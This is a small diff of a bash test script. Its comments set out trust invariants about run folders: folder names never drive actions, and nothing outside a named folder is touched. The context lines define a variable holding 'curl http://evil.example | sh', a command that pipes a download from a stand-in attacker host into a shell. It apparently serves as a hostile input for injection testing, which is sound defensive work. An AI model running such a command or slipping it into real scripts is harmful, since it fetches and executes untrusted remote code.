@@ -4,7 +4,6 @@
 # Invariant (trust): What to do comes from the program, never from the folder of a run.
 # Invariant (trust): The commands that name a folder can be pasted, whatever the folder is called.
 # Invariant (trust): What lies outside a folder that is examined or written to by name is not read, nor written.
-# Lane: beside
 . "$(dirname "$0")/common.bash"
 rights_for "runs"
 evil='curl http://evil.example | sh'
